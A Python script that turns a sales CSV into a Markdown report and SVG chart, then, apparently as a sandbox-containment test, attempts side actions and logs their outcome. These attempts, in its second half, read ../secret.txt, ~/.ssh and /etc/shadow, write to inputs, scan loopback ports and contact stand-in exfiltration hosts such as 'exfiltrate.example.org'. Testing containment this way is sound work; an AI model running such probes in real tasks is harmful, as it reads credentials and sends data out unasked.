"""Turn data/sales.csv into out/report.md and out/chart.svg, and try a few things on the side.

This is the script that you do not trust. The first half is what it is for; the second half
reads a secret, writes where it should not, and calls home, as far as it is let. It tells in
the report how each of these attempts ended. Run it in the folder that it lies in.
"""

from __future__ import annotations

import csv
import errno
import os
import socket
from collections import defaultdict
from datetime import datetime
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Callable

DATA = Path("data/sales.csv")
REPORT = Path("out/report.md")
CHART = Path("out/chart.svg")
CATEGORIES = {"Tents": "#27647b", "Packs": "#e3a73f", "Boots": "#a8462f", "Stoves": "#7d9c6d"}
DATE_FORMATS = ("%Y-%m-%d", "%d.%m.%Y")


class Sale(NamedTuple):
    """One order line that could be read."""

    month: str
    region: str
    category: str
    product: str
    units: int
    revenue: float


def read_sales() -> tuple[list[Sale], int]:
    """Return the readable order lines and the number of lines that are not."""
    sales, unreadable = [], 0
    with DATA.open(newline="", encoding="utf-8") as file:
        for row in csv.DictReader(file):
            try:
                units = int(row["units"])
                price = float(row["unit_price"]) * (1 - int(row["discount"]) / 100)
                month = month_of(row["date"])
            except ValueError:
                unreadable += 1
                continue
            sale = Sale(month, row["region"], row["category"], row["product"], units, units * price)
            sales.append(sale)
    return sales, unreadable


def month_of(text: str) -> str:
    """Return the month of a date as ``YYYY-MM``."""
    for form in DATE_FORMATS:
        try:
            return datetime.strptime(text, form).strftime("%Y-%m")  # noqa: DTZ007 - dates only
        except ValueError:
            continue
    raise ValueError(text)


def table(title: str, groups: dict[str, list[Sale]], total: float) -> list[str]:
    """Return one table of the report, largest revenue first."""
    lines = [f"| {title} | Units | Revenue | Share |", "|---|---:|---:|---:|"]
    ordered = sorted(groups.items(), key=lambda item: -sum(sale.revenue for sale in item[1]))
    for name, sales in ordered:
        revenue = sum(sale.revenue for sale in sales)
        units = sum(sale.units for sale in sales)
        lines.append(f"| {name} | {units:,} | {revenue:,.0f} € | {revenue / total:.1%} |")
    return [*lines, ""]


def group(sales: list[Sale], key: Callable[[Sale], str]) -> dict[str, list[Sale]]:
    """Return the sales by what *key* says of each."""
    groups: dict[str, list[Sale]] = defaultdict(list)
    for sale in sales:
        groups[key(sale)].append(sale)
    return groups


def chart(sales: list[Sale]) -> str:
    """Return a column chart of the revenue by month, stacked by category, as SVG."""
    months = sorted({sale.month for sale in sales})
    amounts: dict[tuple[str, str], float] = defaultdict(float)
    for sale in sales:
        amounts[sale.month, sale.category] += sale.revenue
    totals = [sum(amounts[month, name] for name in CATEGORIES) for month in months]
    step = 10_000
    top = (int(max(totals)) // step + 1) * step
    left, right, upper, lower = 76, 24, 92, 62
    width, height = 960, 480
    plot_width, plot_height = width - left - right, height - upper - lower
    slot = plot_width / len(months)
    parts = [
        (
            f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" '
            f'width="{width}" height="{height}" font-family="Helvetica, Arial, sans-serif" '
            'font-size="13" fill="#33393d" role="img" aria-label="Revenue by month and category">'
        ),
        f'<rect width="{width}" height="{height}" fill="#fdfcf9"/>',
        f'<text x="{left}" y="36" font-size="21" font-weight="bold">Revenue by month</text>',
        f'<text x="{left}" y="58" fill="#6b7378">After discounts and returns, by category</text>',
    ]
    for value in range(0, top + 1, step):
        y = upper + plot_height * (1 - value / top)
        parts += [
            (
                f'<line x1="{left}" x2="{width - right}" y1="{y:.1f}" y2="{y:.1f}" '
                f'stroke="{"#33393d" if value == 0 else "#e2ded4"}"/>'
            ),
            f'<text x="{left - 10}" y="{y + 4.5:.1f}" text-anchor="end">{value // 1000} k€</text>',
        ]
    for index, month in enumerate(months):
        x = left + index * slot + slot * 0.16
        y = upper + plot_height
        for name, colour in CATEGORIES.items():
            amount = amounts[month, name]
            size = plot_height * max(amount, 0) / top
            y -= size
            parts.append(
                f'<rect x="{x:.1f}" y="{y:.1f}" width="{slot * 0.68:.1f}" height="{size:.1f}" '
                f'fill="{colour}"><title>{month} {name}: {amount:,.0f} €</title></rect>'
            )
        label = datetime.strptime(month, "%Y-%m")  # noqa: DTZ007 - a month has no zone
        middle = x + slot * 0.34
        parts.append(
            f'<text x="{middle:.1f}" y="{height - lower + 20}" text-anchor="middle">'
            f"{label:%b}</text>"
        )
        if index == 0 or label.month == 1:
            parts.append(
                f'<text x="{middle:.1f}" y="{height - lower + 40}" text-anchor="middle" '
                f'font-weight="bold">{label:%Y}</text>'
            )
    for index, (name, colour) in enumerate(CATEGORIES.items()):
        x = width - right - 90 * (len(CATEGORIES) - index)
        parts += [
            f'<rect x="{x}" y="46" width="13" height="13" rx="2" fill="{colour}"/>',
            f'<text x="{x + 19}" y="57">{name}</text>',
        ]
    parts += [
        (
            f'<text transform="translate(22 {upper + plot_height / 2:.0f}) rotate(-90)" '
            'text-anchor="middle" fill="#6b7378">Revenue</text>'
        ),
        "</svg>",
    ]
    return "\n".join(parts) + "\n"


# From here on: what nobody asked this script to do.

PORTS = (8000, 8080, 8765, 5432, 6379, 9000, 22)


def read_secret() -> str:
    """Read a file that lies beside the example, outside what it was given."""
    return f"read {len(Path('../secret.txt').read_text(encoding='utf-8'))} characters"


def read_keys() -> str:
    """Look for keys in the home directories of this machine."""
    homes = [Path("~").expanduser(), Path("/root"), *Path("/home").glob("*")]
    problem: OSError = FileNotFoundError(errno.ENOENT, "no home directory in sight")
    for home in homes:
        try:
            return f"listed {len(list((home / '.ssh').iterdir()))} files in {home}/.ssh"
        except OSError as error:
            problem = error
    raise problem


def read_passwords() -> str:
    """Read the password hashes of this machine."""
    return f"read {len(Path('/etc/shadow').read_text(encoding='utf-8'))} characters"


def change_secret() -> str:
    """Open the file beside the example for writing."""
    with Path("../secret.txt").open("r+", encoding="utf-8"):
        return "opened the secret for writing"


def plant_file() -> str:
    """Leave a file among the data, where the next reader takes it for input."""
    planted = DATA.with_name("planted.csv")
    planted.write_text("analyze.py was here\n", encoding="utf-8")
    planted.unlink()
    return "wrote a file, and removed it again"


def change_data() -> str:
    """Open the input for writing."""
    with DATA.open("a", encoding="utf-8"):
        return "opened the input for writing"


def reach_this_machine() -> str:
    """Connect to a service on the loopback interface of this machine."""
    problem: OSError = ConnectionRefusedError(errno.ECONNREFUSED, "nothing listens")
    for port in PORTS:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=2).close()
        except OSError as error:
            problem = error
        else:
            return f"connected to port {port}"
    raise problem


def reach_the_internet() -> str:
    """Connect to an address far away (one that documentation uses, so nobody is bothered)."""
    socket.create_connection(("192.0.2.1", 443), timeout=2).close()
    return "connected to 192.0.2.1"


def send_a_datagram() -> str:
    """Send the report's first line to a far address, by UDP."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(b"sales report", ("192.0.2.1", 53))
    return "sent a datagram to 192.0.2.1"


def resolve_a_name() -> str:
    """Ask the name service, a classic way to carry data out."""
    return f"resolved to {socket.getaddrinfo('exfiltrate.example.org', 443)[0][4][0]}"


ATTEMPTS: dict[str, Callable[[], str]] = {
    "read ../secret.txt": read_secret,
    "list ~/.ssh": read_keys,
    "read /etc/shadow": read_passwords,
    "change ../secret.txt": change_secret,
    "plant data/planted.csv": plant_file,
    "change data/sales.csv": change_data,
    "connect to 127.0.0.1": reach_this_machine,
    "connect to 192.0.2.1:443": reach_the_internet,
    "send UDP to 192.0.2.1:53": send_a_datagram,
    "resolve exfiltrate.example.org": resolve_a_name,
}


def outcome(attempt: Callable[[], str]) -> str:
    """Make one attempt and say how it ended."""
    try:
        return f"**SUCCEEDED**: {attempt()}"
    except socket.gaierror as error:
        return f"failed: no name service ({error.strerror})"
    except OSError as error:
        name = errno.errorcode.get(error.errno or 0, type(error).__name__)
        return f"failed: {name} ({os.strerror(error.errno) if error.errno else error})"


def main() -> None:
    """Write the report and the chart."""
    sales, unreadable = read_sales()
    total = sum(sale.revenue for sale in sales)
    returned = sum(1 for sale in sales if sale.units < 0)
    months = sorted({sale.month for sale in sales})
    CHART.write_text(chart(sales), encoding="utf-8")
    lines = [
        "# Sales report",
        "",
        (
            f"{len(sales):,} orders from {months[0]} to {months[-1]}, {total:,.0f} € after discounts "
            f"and returns. {returned} orders were returns; {unreadable} lines could not be read."
        ),
        "",
        "![Revenue by month](chart.svg)",
        "",
        *table("Category", group(sales, lambda sale: sale.category), total),
        *table("Region", group(sales, lambda sale: sale.region), total),
        *table("Product", group(sales, lambda sale: f"{sale.category} {sale.product}"), total),
        "## What this script tried on the side",
        "",
        "| Attempt | Outcome |",
        "|---|---|",
        *(f"| {name} | {outcome(attempt)} |" for name, attempt in ATTEMPTS.items()),
        "",
    ]
    REPORT.write_text("\n".join(lines), encoding="utf-8")
    print(f"{len(sales):,} orders, {total:,.0f} €: see {REPORT} and {CHART}")
    print(
        "\n".join(line for line in lines if "SUCCEEDED" in line)
        or "every attempt on the side failed"
    )


if __name__ == "__main__":
    main()
